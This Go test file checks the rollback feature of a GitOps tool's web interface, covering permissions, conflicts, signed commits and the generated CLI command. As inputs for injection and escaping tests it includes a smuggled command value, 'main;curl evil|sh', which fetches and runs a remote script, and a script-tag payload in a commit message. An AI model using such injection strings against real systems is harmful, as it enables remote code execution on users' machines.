package web

import (
	"context"
	"encoding/base64"
	"net/http"
	"net/url"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/sane-gitops/sane/ask"
	"github.com/sane-gitops/sane/cluster"
	"github.com/sane-gitops/sane/commit"
	"github.com/sane-gitops/sane/dialect/flux"
	"github.com/sane-gitops/sane/internal/browser"
	"github.com/sane-gitops/sane/internal/gitserver"
	"github.com/sane-gitops/sane/object"
	"github.com/sane-gitops/sane/source"
)

// A bygone is the shop with a repository of a server, in which it was another.
type bygone struct {
	*stage
	*gitserver.Server
	t   *testing.T
	ids []string // of its commits
}

func settingsFile(greeting string) string {
	return "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: settings, namespace: shop}\ndata: {greeting: " + greeting + "}\n"
}

// shopWithPast sets a stage on which people look as themselves if anyone is set.
func shopWithPast(t *testing.T, o gitserver.Options) *bygone {
	t.Helper()
	home := t.TempDir()
	for k, v := range map[string]string{"HOME": home, "XDG_CONFIG_HOME": home, "GIT_CONFIG_NOSYSTEM": "1",
		"GIT_AUTHOR_NAME": "Grace", "GIT_AUTHOR_EMAIL": "g@example.com", "GIT_COMMITTER_NAME": "Grace", "GIT_COMMITTER_EMAIL": "g@example.com"} {
		t.Setenv(k, v)
	}
	srv, err := gitserver.Start(t.TempDir(), o)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(srv.Close)
	if err := srv.Create("apps"); err != nil {
		t.Fatal(err)
	}
	ids, err := srv.Write("apps", "main", slices.Values([]gitserver.Commit{
		{Message: "one " + hostile, Files: map[string]string{"web/settings.yaml": settingsFile("one"), "README": "1"}},
		{Message: "two", Files: map[string]string{"web/settings.yaml": settingsFile("two"), "README": "2"}},
	}))
	if err != nil {
		t.Fatal(err)
	}
	st := shop(t, func(c *Config) { c.Lend = lendByHeader })
	src := sourceBody("shop", "apps", says("Ready", "True", "Succeeded", "stored artifact"))
	src["spec"].(map[string]any)["url"] = srv.URL("apps")
	if o.Password != "" {
		src["spec"].(map[string]any)["secretRef"] = map[string]any{"name": "git"}
		st.apply(map[string]any{"apiVersion": "v1", "kind": "Secret", "metadata": map[string]any{"name": "git", "namespace": "shop"}, "data": map[string]any{
			"username": base64.StdEncoding.EncodeToString([]byte(o.Username)), "password": base64.StdEncoding.EncodeToString([]byte(o.Password)),
		}})
	}
	st.apply(src)
	unit := object.ID{Kind: flux.Kustomization, Namespace: "shop", Name: "web"}
	rev := func(i int) map[string]any { return map[string]any{"revision": "main@sha1:" + ids[i]} }
	st.world.SetStatus(unit, map[string]any{
		"conditions": []any{says("Ready", "True", "ReconciliationSucceeded", "ok")}, "observedGeneration": int64(1),
		"lastAppliedRevision": "main@sha1:" + ids[1], "lastAttemptedRevision": "main@sha1:" + ids[1],
		"inventory": map[string]any{"entries": []any{map[string]any{"id": "shop_settings__ConfigMap", "v": "v1"}}},
		"history": []any{
			map[string]any{"digest": "sha256:2", "lastReconciled": "2026-01-02T02:50:00Z", "lastReconciledStatus": "ReconciliationSucceeded", "metadata": rev(1)},
			map[string]any{"digest": "sha256:1", "lastReconciled": "2026-01-01T02:50:00Z", "lastReconciledStatus": "ReconciliationSucceeded", "metadata": rev(0)},
		},
	})
	return &bygone{st, srv, t, ids}
}

// lendByHeader gets in by a password as source/git does.
func lendByHeader(_ context.Context, _ *ask.Gear, at source.Remote) (commit.Way, func(), error) {
	env := []string{"PATH=" + os.Getenv("PATH"), "HOME=/nowhere", "GIT_CONFIG_NOSYSTEM=1", "GIT_CONFIG_GLOBAL=/dev/null"}
	if a := at.Access; a.Password != "" {
		env = append(env, "GIT_CONFIG_COUNT=1", "GIT_CONFIG_KEY_0=http.extraHeader",
			"GIT_CONFIG_VALUE_0=Authorization: Basic "+base64.StdEncoding.EncodeToString([]byte(a.Username+":"+a.Password)))
	}
	return commit.Way{URL: at.URL, Env: env}, func() {}, nil
}

// as returns a caller who looks as somebody.
func (st *stage) as(who cluster.Identity) *caller {
	st.c.Door.Pass = ""
	st.c.Door.Review = func(context.Context, string) (cluster.Identity, error) { return who, nil }
	b := st.caller()
	x := st.begin(who, "")
	u, _ := url.Parse(st.http.URL)
	b.Jar.SetCookies(u, []*http.Cookie{{Name: st.cookie(b.request("GET", "/", ""), "session"), Value: st.seal.close("session", x), Path: "/"}})
	return b
}

// git asks the server's repository.
func (p *bygone) git(args ...string) string {
	p.t.Helper()
	out, err := exec.Command("git", append([]string{"--git-dir", p.Path("apps")}, args...)...).CombinedOutput()
	if err != nil {
		p.t.Fatalf("git %v: %v: %s", args, err, out)
	}
	return strings.TrimSpace(string(out))
}

// first is the revision to go back to.
func (p *bygone) first() string { return "main@sha1:" + p.ids[0] }

// was returns what the form on the page carries.
func (p *bygone) was(b *caller) string {
	p.t.Helper()
	a := b.get(webUnit + "/rolled?" + query("to", p.first()))
	_, rest, ok := strings.Cut(a.body, `name="was" value="`)
	was, _, _ := strings.Cut(rest, `"`)
	if !ok || was == "" {
		p.t.Fatalf("there is no form: %s", a)
	}
	return was
}

func (p *bygone) roll(b *caller, was string, more ...string) answer {
	p.t.Helper()
	values := url.Values{"revision": {p.first()}, "was": {was}, "to": {webUnit}}
	for i := 0; i < len(more); i += 2 {
		values.Set(more[i], more[i+1])
	}
	return b.post(webUnit+"/rollback", values)
}

// Who looks as ourselves goes back with their own Git configuration.
func TestRollBack(t *testing.T) {
	p := shopWithPast(t, gitserver.Options{})
	b := p.insider()
	b.get(webUnit).has(t, webUnit+"/rollback?to=main", "sane rollback web -n shop "+p.first())
	b.get(webUnit+"/rollback?"+query("to", p.first())).has(t, "data-load=\"/unit/kustomization/shop/web/rolled?to=main", "sane rollback web -n shop")
	b.get(webUnit+"/rolled?"+query("to", p.first())).has(t,
		"greeting: one", "<code>web/settings.yaml</code>", "!README", "one &lt;script&gt;", "!<script>alert", "Ada Lovelace", "Make the commit and push it", `name="form"`)
	was := p.was(b)
	if a := p.roll(b, was, "form", "forged"); a.status != 403 {
		t.Error(a)
	}
	if got := p.git("rev-parse", "main"); got != p.ids[1] {
		t.Fatalf("main is at %s", got)
	}

	// Somebody pushes elsewhere meanwhile, and nothing of that is lost.
	if _, err := p.Commit("apps", "main", "theirs", map[string]string{"README": "3"}); err != nil {
		t.Fatal(err)
	}
	a := p.roll(b, was, "reason", "two is too much")
	if a.status != 303 || !strings.HasPrefix(a.header.Get("Location"), webUnit+"?done=rollback") {
		t.Fatal(a)
	}
	if got := p.git("show", "main:web/settings.yaml") + "|" + p.git("show", "main:README") + "|" + p.git("log", "-1", "--format=%an", "main"); got != strings.TrimSpace(settingsFile("one"))+"|3|Grace" {
		t.Errorf("main has %s", got)
	}
	if got := p.git("log", "-1", "--format=%B", "main"); !strings.Contains(got, "two is too much") || !strings.Contains(got, p.first()) {
		t.Errorf("the commit says %s", got)
	}
	b.get(a.header.Get("Location")).has(t, "The commit that goes back is pushed.")
	if a := p.roll(b, was); a.status != 409 || !strings.Contains(a.body, "There is nothing to do") {
		t.Error(a)
	}
	b.get(webUnit+"/rolled?"+query("to", p.first())).has(t, "There is nothing to do", `!name="was"`)
	if log := p.log.String(); !strings.Contains(log, "did=rollback") || !strings.Contains(log, "commit="+p.git("rev-parse", "main")) {
		t.Errorf("the log tells\n%s", log)
	}
}

// What a viewer was shown is not what there is any more.
func TestRollBackOfSomethingElse(t *testing.T) {
	p := shopWithPast(t, gitserver.Options{})
	b := p.insider()
	was := p.was(b)
	theirs, err := p.Commit("apps", "main", "theirs", map[string]string{"web/settings.yaml": settingsFile("three")})
	if err != nil {
		t.Fatal(err)
	}
	if a := p.roll(b, was); a.status != 409 || !strings.Contains(a.body, "Somebody has changed what is to be put back") {
		t.Error(a)
	}
	if got := p.git("rev-parse", "main"); got != theirs {
		t.Errorf("main is at %s", got)
	}
	for _, rev := range []string{"main@sha1:" + theirs, "refs/heads/main", ""} {
		b.get(webUnit+"/rolled?"+query("to", rev)).has(t, "is no revision that this unit has been at lately", `!name="was"`)
		if a := b.post(webUnit+"/rollback", url.Values{"revision": {rev}, "was": {was}}); a.status != 404 {
			t.Error(a)
		}
	}
}

// In a cluster, we push by what the viewer may read.
func TestRollBackAsAViewer(t *testing.T) {
	p := shopWithPast(t, gitserver.Options{Username: "deploy", Password: "hunter2"})
	secrets := true
	p.world.Allow(func(who cluster.Identity, d cluster.Deed) bool {
		return who.User == "" || d.Object.Kind != object.Kind{Name: "Secret"} && d.Verb != "patch" || d.Verb == "get" && secrets && d.Object.Name != "key"
	})
	b := p.as(cluster.Identity{User: "ada@example.com"})
	b.get(webUnit).has(t, webUnit+"/rollback?to=main")
	b.get(webUnit+"/rolled?"+query("to", p.first())).has(t, "greeting: one", "!hunter2")
	if a := p.roll(b, p.was(b)); a.status != 303 {
		t.Fatal(a)
	}
	if got := p.git("log", "-1", "--format=%an|%ae|%cn", "main"); got != "ada@example.com|ada@example.com|Sane" {
		t.Errorf("it is by %s", got)
	}
	if log := p.log.String(); !strings.Contains(log, "user=ada@example.com did=rollback") || strings.Contains(log, "hunter2") {
		t.Errorf("the log tells\n%s", log)
	}

	// Who may not read it is offered nothing, and gets nothing.
	secrets = false
	eve := p.as(cluster.Identity{User: "eve"})
	eve.get(webUnit).has(t, "!/rollback?to=", "sane rollback web")
	eve.get(webUnit+"/rolled?"+query("to", p.first())).has(t, `!name="was"`, "!greeting", "!hunter2")
	at := p.git("rev-parse", "main")
	if a := p.roll(eve, "x"); a.status != 403 && a.status != 409 {
		t.Error(a)
	}
	if got := p.git("rev-parse", "main"); got != at {
		t.Errorf("main is at %s", got)
	}
}

// Where nobody has to get in, whoever may change the unit may go back.
func TestRollBackWithoutCredentials(t *testing.T) {
	p := shopWithPast(t, gitserver.Options{})
	patch := false
	p.world.Allow(func(who cluster.Identity, d cluster.Deed) bool { return who.User == "" || d.Verb != "patch" || patch })
	b := p.as(cluster.Identity{User: "eve"})
	b.get(webUnit).has(t, "!/rollback?to=")
	if a := p.roll(b, "x"); a.status != 403 {
		t.Error(a)
	}
	patch = true
	c := p.as(cluster.Identity{User: "eve", Groups: []string{"admins"}})
	c.get(webUnit).has(t, "/rollback?to=main")
	if a := p.roll(c, p.was(c), "branch", "back"); a.status != 303 {
		t.Error(a)
	}
	if got := p.git("log", "-1", "--format=%an|%ae|%P", "back") + " " + p.git("rev-parse", "main"); got != "eve|noreply@localhost|"+p.ids[1]+" "+p.ids[1] {
		t.Errorf("the branches are %s", got)
	}
	p.git("branch", "taken", "main")
	if a := p.roll(c, p.was(c), "branch", "taken"); a.status != 409 || !strings.Contains(a.body, "there is a branch taken already") {
		t.Error(a)
	}
}

// A server that takes no pushes says so, and what to do instead is said.
func TestRollBackRefused(t *testing.T) {
	p := shopWithPast(t, gitserver.Options{})
	hook := filepath.Join(p.Path("apps"), "hooks", "pre-receive")
	if err := os.MkdirAll(filepath.Dir(hook), 0o777); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(hook, []byte("#!/bin/sh\necho '<b>this key is read-only</b>' >&2\nexit 1\n"), 0o777); err != nil {
		t.Fatal(err)
	}
	b := p.insider()
	a := p.roll(b, p.was(b))
	if a.status != 409 {
		t.Error(a)
	}
	a.has(t, "the server does not take it", "&lt;b&gt;this key is read-only", "!<b>this", "sane rollback web -n shop "+p.first())
	if log := p.log.String(); !strings.Contains(log, "not done") {
		t.Errorf("the log tells\n%s", log)
	}
}

// Where a source takes signed commits only, whoever would sign goes back, and nobody
// else does.
func TestRollBackSigned(t *testing.T) {
	p := shopWithPast(t, gitserver.Options{})
	src := sourceBody("shop", "apps", says("Ready", "True", "Succeeded", "stored artifact"))
	spec := src["spec"].(map[string]any)
	spec["url"], spec["verify"] = p.URL("apps"), map[string]any{"mode": "HEAD", "secretRef": map[string]any{"name": "keys"}}
	p.apply(src)
	b := p.insider()
	b.get(webUnit+"/rolled?"+query("to", p.first())).has(t, "takes signed commits only", "commit.gpgsign true", "!Make the commit and push it")
	if a := p.roll(b, "sha1:0"); a.status != http.StatusConflict || p.git("rev-parse", "main") != p.ids[1] {
		t.Error(a)
	}
	config := filepath.Join(t.TempDir(), "config")
	if err := os.WriteFile(config, []byte("[user]\nname = Ada\nemail = ada@example.com\n[commit]\ngpgsign = true\n"), 0o666); err != nil {
		t.Fatal(err)
	}
	t.Setenv("GIT_CONFIG_GLOBAL", config)
	b.get(webUnit+"/rolled?"+query("to", p.first())).has(t, "!takes signed commits only", "Make the commit and push it")
}

func TestLooksOfRollBack(t *testing.T) {
	p := shopWithPast(t, gitserver.Options{})
	p.looked(browser.Start(t), map[string]string{"rollback": webUnit + "/rollback?" + query("to", p.first())})
}

// A link that somebody made up is given no command to be pasted; one of a branch
// with a strange name can be pasted safely.
func TestRollbackCommand(t *testing.T) {
	st := shop(t, nil)
	if a := st.insider().get(webUnit + "/rollback?" + query("to", "main;curl evil|sh")); a.status != http.StatusNotFound || strings.Contains(a.body, "sane rollback") {
		t.Error(a)
	}
	unit := object.Of(unitBody("shop", "web", "apps"))
	for rev, want := range map[string]string{
		oldRev:             "sane rollback web -n shop " + oldRev,
		"it's;x@sha1:0123": `sane rollback web -n shop 'it'\''s;x@sha1:0123'`,
	} {
		if got := st.rollbackCommand(unit, rev); got != want {
			t.Errorf("%s, want %s", got, want)
		}
	}
}
